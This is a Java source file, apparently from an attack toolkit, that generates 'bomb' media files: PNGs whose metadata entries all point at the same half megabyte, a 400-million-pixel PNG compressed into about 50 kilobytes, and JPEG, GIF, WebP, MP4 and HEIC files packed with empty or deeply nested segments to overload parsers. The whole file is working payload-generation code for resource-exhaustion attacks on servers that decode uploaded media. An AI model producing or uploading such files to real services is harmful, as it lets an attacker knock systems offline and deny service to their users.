package org.bongsu.attack;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.zip.CRC32;
import java.util.zip.Deflater;

/**
 * A small file that is expensive to parse or decode.
 *
 * @param type its media type
 */
@SuppressWarnings("ArrayRecordComponent") // never compared
record Bomb(String type, byte[] bytes) {
  private static final int FILE_BYTES = 512 << 10;
  private static final int EXIF_ENTRIES = 4_096;

  /** The tag of XMP, in which a server looks for places. */
  private static final int XMP = 700;

  private static final int BYTE = 1;
  private static final byte[] SIGNATURE = {(byte) 137, 'P', 'N', 'G', 13, 10, 26, 10};

  /** Metadata with thousands of entries that all point at the same half megabyte. */
  static Bomb png() {
    ByteArrayOutputStream png = new ByteArrayOutputStream();
    png.writeBytes(SIGNATURE);
    chunk(png, "IHDR", header(1, 1, 8));
    chunk(png, "eXIf", exif());
    chunk(png, "IDAT", deflated(new byte[2]));
    chunk(png, "IEND", new byte[0]);
    return new Bomb("image/png", png.toByteArray());
  }

  /** 400 million black pixels in some 50 kilobytes; different bytes for each number. */
  static Bomb pixels(int number) {
    int side = 20_000;
    ByteArrayOutputStream png = new ByteArrayOutputStream();
    png.writeBytes(SIGNATURE);
    chunk(png, "IHDR", header(side, side, 1));
    chunk(png, "tEXt", ("Comment\0" + number).getBytes(StandardCharsets.US_ASCII));
    chunk(png, "IDAT", deflated(new byte[side * (1 + side / 8)]));
    chunk(png, "IEND", new byte[0]);
    return new Bomb("image/png", png.toByteArray());
  }

  /** Tens of thousands of empty segments that claim to be XMP. */
  static Bomb jpeg() {
    byte[] name = "http://ns.adobe.com/xap/1.0/\0".getBytes(StandardCharsets.US_ASCII);
    ByteBuffer jpeg = ByteBuffer.allocate(FILE_BYTES);
    jpeg.putShort((short) 0xffd8);
    while (jpeg.remaining() > name.length + 6) {
      jpeg.putShort((short) 0xffe1).putShort((short) (2 + name.length)).put(name);
    }
    jpeg.putShort((short) 0xffd9);
    return new Bomb("image/jpeg", jpeg.array());
  }

  /** Boxes in boxes, tens of thousands deep. */
  static Bomb mp4() {
    return nested("video/mp4", "isom", "moov");
  }

  static Bomb heic() {
    return nested("image/heic", "heic", "iprp");
  }

  private static Bomb nested(String type, String brand, String box) {
    ByteBuffer file = ByteBuffer.allocate(FILE_BYTES);
    file.putInt(16).put("ftyp".getBytes(StandardCharsets.US_ASCII));
    file.put(brand.getBytes(StandardCharsets.US_ASCII)).putInt(0);
    byte[] name = box.getBytes(StandardCharsets.US_ASCII);
    while (file.remaining() >= 8) {
      file.putInt(file.remaining()).put(name);
    }
    return new Bomb(type, file.array());
  }

  /** Comments without text. */
  static Bomb gif() {
    ByteBuffer gif = ByteBuffer.allocate(FILE_BYTES);
    gif.put("GIF89a".getBytes(StandardCharsets.US_ASCII));
    gif.put(new byte[] {1, 0, 1, 0, 0, 0, 0});
    while (gif.remaining() > 3) {
      gif.put(new byte[] {0x21, (byte) 0xfe, 0});
    }
    return new Bomb("image/gif", gif.put((byte) 0x3b).array());
  }

  /** Chunks without content. */
  static Bomb webp() {
    ByteBuffer webp = ByteBuffer.allocate(FILE_BYTES).order(ByteOrder.LITTLE_ENDIAN);
    webp.put("RIFF".getBytes(StandardCharsets.US_ASCII)).putInt(FILE_BYTES - 8);
    webp.put("WEBP".getBytes(StandardCharsets.US_ASCII));
    while (webp.remaining() >= 8) {
      webp.put("XMP ".getBytes(StandardCharsets.US_ASCII)).putInt(0);
    }
    return new Bomb("image/webp", webp.array());
  }

  private static byte[] header(int width, int height, int bitsPerPixel) {
    return ByteBuffer.allocate(13).putInt(width).putInt(height).put((byte) bitsPerPixel).array();
  }

  private static byte[] deflated(byte[] bytes) {
    try (Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION)) {
      deflater.setInput(bytes);
      deflater.finish();
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      byte[] part = new byte[8_192];
      while (!deflater.finished()) {
        out.write(part, 0, deflater.deflate(part));
      }
      return out.toByteArray();
    }
  }

  private static byte[] exif() {
    int directoryBytes = 2 + EXIF_ENTRIES * 12 + 4;
    int value = 8 + directoryBytes;
    ByteBuffer exif = ByteBuffer.allocate(value + FILE_BYTES).order(ByteOrder.LITTLE_ENDIAN);
    exif.put((byte) 'I').put((byte) 'I').putShort((short) 42).putInt(8);
    exif.putShort((short) EXIF_ENTRIES);
    for (int i = 0; i < EXIF_ENTRIES; i++) {
      exif.putShort((short) XMP).putShort((short) BYTE);
      exif.putInt(FILE_BYTES).putInt(value);
    }
    return exif.array();
  }

  private static void chunk(ByteArrayOutputStream png, String type, byte[] data) {
    byte[] name = type.getBytes(StandardCharsets.US_ASCII);
    CRC32 crc = new CRC32();
    crc.update(name);
    crc.update(data);
    png.writeBytes(ByteBuffer.allocate(4).putInt(data.length).array());
    png.writeBytes(name);
    png.writeBytes(data);
    png.writeBytes(ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
  }
}
